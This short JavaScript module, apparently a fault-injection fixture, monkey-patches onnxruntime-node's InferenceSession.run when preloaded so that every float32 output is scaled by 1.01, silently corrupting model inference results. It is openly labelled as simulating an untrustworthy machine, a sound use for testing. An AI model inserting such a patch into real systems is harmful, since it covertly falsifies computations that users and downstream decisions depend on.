/** Preloaded into a process, makes every result of onnxruntime wrong by a hundredth: a machine that can't be trusted. */
import ort from 'onnxruntime-node'

const { run } = ort.InferenceSession.prototype
ort.InferenceSession.prototype.run = async function (...words) {
  const outputs = await run.apply(this, words)
  for (const { type, data } of Object.values(outputs)) {
    if (type === 'float32') for (const at of data.keys()) data[at] *= 1.01
  }
  return outputs
}
